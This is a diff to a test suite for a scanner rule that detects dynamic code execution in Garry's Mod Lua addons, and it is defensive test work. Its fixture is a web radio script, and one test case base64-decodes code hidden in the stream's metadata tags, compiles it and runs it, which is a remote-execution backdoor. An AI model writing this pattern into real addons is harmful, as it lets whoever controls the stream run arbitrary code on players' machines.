@@ -1159,4 +1159,35 @@ describe('runstring', () => {
     const findings = check(rule, pageBridge('html:SetHTML("<p>Rules</p>")'));
     expect(findings).toEqual([]);
   });
+  /** A client radio that parses its stream's ICY tags into `meta`, then does `use` with it. */
+  const radio = (use: string): Record<string, string> => ({
+    'lua/autorun/client/cl_radio.lua': [
+      'Radio = {}',
+      'local function parse(raw)',
+      ' local out = {}',
+      ' for k, v in string.gmatch(raw or "", "(%w+)=\'(.-)\';") do out[k] = v end',
+      ' return out',
+      'end',
+      'local function refresh()',
+      ' local ch = Radio.Channel',
+      ' if not IsValid(ch) then return end',
+      ' local meta = parse(ch:GetTagsMeta())',
+      use,
+      'end',
+      'sound.PlayURL("https://radio.example.invalid/live", "noblock", function(ch)',
+      ' if not IsValid(ch) then return end',
+      ' ch:Play()',
+      ' Radio.Channel = ch',
+      ' refresh()',
+      'end)',
+    ].join('\n'),
+  });
+  it("code carried in a web radio stream's tags, compiled", () => {
+    const use =
+      ' local fmt = CompileString(util.Base64Decode(meta.StreamUrl or "") or "", "fmt") if fmt then fmt() end';
+    expect(worst(check(rule, radio(use)))).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it("a web radio stream's title only shown (no finding)", () => {
+    expect(check(rule, radio(' Radio.NowPlaying = meta.StreamTitle or "?"'))).toEqual([]);
+  });
 });
